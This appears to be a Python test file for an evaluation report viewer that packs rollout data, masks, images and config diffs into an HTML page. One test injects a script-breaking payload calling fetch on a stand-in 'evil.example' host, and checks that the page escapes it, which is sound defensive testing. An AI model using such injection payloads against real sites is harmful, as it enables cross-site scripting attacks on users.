"""The viewer's data: the page's script reads what the rollouts say, and none of their text is in the page."""

from __future__ import annotations

import base64
import gzip
import io
import json
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from envs.masks import decode_rle, encode_rle
from eval.report.run_page import ReportInput, render_report
from eval.viewer.groups import Group, Member, Shown, evenly, joined, question_groups
from eval.viewer.images import jpeg_text, page_images
from eval.viewer.page import config_changes
from eval.viewer.payload import PER_PIECE, make_payload
from prompter.errors import UserError
from prompter.types import FailureKind, ParseFailure, PromptSet
from tests.fixtures.hostile import HOSTILE
from tests.fixtures.made_rollouts import NOTHING, SIDE, made_rollout
from tests.unit.eval.test_report import Samples, rollout, write

pytestmark = pytest.mark.usefixtures("small_heap")


def unpacked(text: str) -> Any:
    return json.loads(gzip.decompress(base64.b64decode(text)))


def grey() -> Image.Image:
    return Image.new("RGB", (SIDE, SIDE), (90, 90, 90))


def groups(count: int, size: int = 3, **changes: Any) -> Iterable[Group]:
    for number in range(count):
        members = [
            Member(
                made_rollout(sample_id=f"s{number}", step=number, rewards={"total": one / 2}, **changes),
                str(one + 1),
                one - 1.0,
            )
            for one in range(size)
        ]
        yield Group(members, "training", grey)


def test_the_index_holds_a_column_entry_per_group_and_rollout() -> None:
    payload = make_payload(Shown(groups(PER_PIECE + 1)))
    index = unpacked(payload.index)
    assert payload.groups == PER_PIECE + 1 and payload.rollouts == 3 * (PER_PIECE + 1)
    assert {len(values) for values in index["groups"].values()} == {payload.groups}
    assert {len(values) for values in index["rollouts"].values()} == {payload.rollouts}
    assert index["rollouts"]["reward"][:3] == [0, 0.5, 1] and index["earned"]
    assert index["rollouts"]["advantage"][:3] == [-1, 0, 1]
    assert index["groups"]["step"][-1] == PER_PIECE and index["groups"]["size"][0] == 3
    assert index["parts"] == ["training"] and index["labels"] == ["1", "2", "3"]
    assert [len(unpacked(piece)) for piece in payload.pieces] == [PER_PIECE, 1]
    assert len(payload.images) == 1, "one image, whatever the number of questions about it"


def test_a_piece_holds_what_is_drawn_and_read() -> None:
    failure = ParseFailure(FailureKind.NOT_JSON, "expected a list, found a word", "x")
    members = [
        Member(made_rollout(completion="here"), "1"),
        Member(made_rollout(failure, completion="x"), "2"),
        Member(made_rollout(prediction=None, executor_error="the actor died"), "3"),
        Member(made_rollout(PromptSet(), prediction=encode_rle(NOTHING)), "4"),
    ]
    payload = make_payload(Shown([Group(members, "held-out")]))
    index, (told,) = unpacked(payload.index), unpacked(payload.pieces[0])
    first, second, third, fourth = told["members"]
    target = members[0].rollout.target
    assert target is not None and told["target"] == target["counts"]
    again = decode_rle({"size": [SIDE, SIDE], "counts": first["mask"]})
    assert np.array_equal(again, members[0].rollout.prediction_mask)
    assert first["prompts"][0]["box"] == [2, 1, 6, 5] and first["text"] == "here"
    assert second["failure"] == failure.message and "mask" not in second
    assert third["error"] == "the actor died"
    assert "prompts" not in fourth
    named = [index["outcomes"][code] for code in index["rollouts"]["outcome"]]
    assert named == ["targets", "not_json", "executor_failed", "no_target"]
    assert [code >= index["firstFailure"] for code in index["rollouts"]["outcome"]].index(True) == 1
    # Nothing was earned outside training: the IoU stands in, and a failed segmenter has none.
    assert index["rollouts"]["reward"] == [1, 0, None, 0] and not index["earned"]
    assert payload.images == [""] and "1 images could not be loaded" in payload.notes[0]


def test_the_same_groups_give_the_same_page_data() -> None:
    first, second = (make_payload(Shown(groups(3))) for _ in range(2))
    assert first == second


def test_no_text_of_a_rollout_stands_in_the_page(tmp_path: Path) -> None:
    """A completion that ends a script, a question that opens one: both are in the packed data alone."""
    attack = "</script><script>fetch('https://evil.example')</script>" + HOSTILE + "\ud800<!--"
    texts = dict.fromkeys(("query", "completion", "sample_id", "image_id"), attack)
    members = [Member(made_rollout(tags={attack: attack}, **texts), attack)]
    plain = write(tmp_path / "a.jsonl", [rollout(0, 5), rollout(1, 9)])
    page = render_report(ReportInput("A run", plain, rollouts=Shown([Group(members, attack)])))
    assert "evil.example" not in page and "onerror" not in page
    assert page.lower().count("<script") == page.lower().count("</script>") == 3  # index, code, piece
    index = re.search(r'id="rollout-index">([^<]*)<', page)
    piece = re.search(r'id="piece-0">([^<]*)<', page)
    assert index and piece
    assert unpacked(index[1])["queries"] == [attack] == unpacked(index[1])["parts"]
    assert unpacked(piece[1])[0]["members"][0]["text"] == attack
    assert "default-src 'none'" in page and not re.search("https?:", page)


def test_runs_stand_side_by_side_by_question(tmp_path: Path) -> None:
    first = write(tmp_path / "a.jsonl", [rollout(n, 5) for n in range(4)])
    second = write(tmp_path / "b.jsonl", [rollout(n, 9) for n in (3, 1, 0)])
    shown = question_groups({"one": first, "other": second}, "evaluation", Samples(4))
    found = list(shown.groups)
    assert [[member.label for member in group.members] for group in found] == [
        ["one", "other"],
        ["one", "other"],
        ["one"],
        ["one", "other"],
    ]
    assert all(len({member.rollout.sample_id for member in group.members}) == 1 for group in found)
    assert found[0].load_image is not None and found[0].load_image().size == (40, 30)
    assert shown.note == ""
    some = question_groups({"one": first, "other": second}, "evaluation", most=4)
    assert [group.members[0].rollout.sample_id for group in some.groups] == ["s0", "s3"]
    assert some.note == "2 of 4 questions of evaluation are here, evenly spaced."
    assert joined([some, Shown((), "More.")]).note == some.note + " More."
    with pytest.raises(UserError, match="no rollouts"):
        question_groups({}, "evaluation")


def test_an_image_of_other_samples_is_left_out_and_counted(tmp_path: Path) -> None:
    class Others(Samples):
        def __getitem__(self, index: int) -> Any:
            return super().__getitem__(index + 1)

    path = write(tmp_path / "a.jsonl", [rollout(0, 5)])
    payload = make_payload(question_groups({"one": path}, "evaluation", Others(1)))
    assert payload.images == [""] and "could not be loaded" in payload.notes[0]


def test_images_stay_within_what_a_page_may_weigh() -> None:
    noise = np.random.default_rng(0).integers(0, 255, (250, 350, 3), dtype=np.uint8)

    def load() -> Image.Image:
        return Image.fromarray(noise)

    wide = page_images([load] * 3, 10**8)
    assert wide.side == 640 and Image.open(io.BytesIO(base64.b64decode(wide.texts[0]))).size == (350, 250)
    tight = page_images([load] * 3, int(3.3 * len(jpeg_text(load(), 256))))
    assert tight.side == 256 and all(tight.texts) and tight.note == ""
    least = page_images([load] * 3, 2 * len(jpeg_text(load(), 128)))
    assert least.side == 128 and [bool(text) for text in least.texts] == [True, True, False]
    assert least.note == "1 images are left out, or the page would be too large."
    assert Image.open(io.BytesIO(base64.b64decode(jpeg_text(grey(), 640)))).size == (SIDE, SIDE)


@pytest.mark.parametrize(("total", "most", "places"), [(3, 5, [0, 1, 2]), (9, 3, [0, 4, 8]), (0, 3, [])])
def test_some_of_many_are_evenly_spaced(total: int, most: int, places: list[int]) -> None:
    assert evenly(total, most) == places


def test_configurations_are_set_side_by_side_where_they_differ() -> None:
    one = {"seed": 0, "trainer": {"lr": 1e-4, "steps": 5}, "list": [1]}
    other = {"seed": 0, "trainer": {"lr": 2e-4}, "list": [1], "more": "x"}
    assert config_changes({"this": one, "that": other}) == [
        ["key", "this", "that"],
        ["trainer.lr", "0.0001", "0.0002"],
        ["trainer.steps", "5", "–"],
        ["more", "–", "x"],
    ]
    assert config_changes({"this": one, "that": one}) == []
